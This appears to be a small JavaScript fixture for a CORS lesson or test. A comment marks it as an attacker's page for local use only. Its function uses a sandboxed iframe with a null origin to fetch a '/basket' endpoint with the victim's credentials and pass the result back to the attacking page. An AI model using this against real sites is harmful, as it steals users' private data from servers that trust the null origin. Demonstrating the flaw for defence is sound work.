// wrong: this is the attacker's page. Run it on your own machine only.
// A frame with the sandbox attribute has the origin null, on any site.
async function readBasketFromSandbox(api) {
  const frame = document.createElement('iframe');
  frame.sandbox = 'allow-scripts';
  frame.srcdoc = `<script>
    fetch('${api}/basket', { credentials: 'include' })
      .then((response) => response.json())
      .then((read) => parent.postMessage({ read }, '*'))
      .catch((error) => parent.postMessage({ error: String(error) }, '*'));
  </script>`;
  const message = new Promise((resolve) => {
    addEventListener('message', ({ data }) => resolve(data), { once: true });
  });
  document.body.append(frame);
  const { read, error } = await message;
  frame.remove();
  if (error) throw new TypeError(error);
  return read;
}

export default [readBasketFromSandbox];
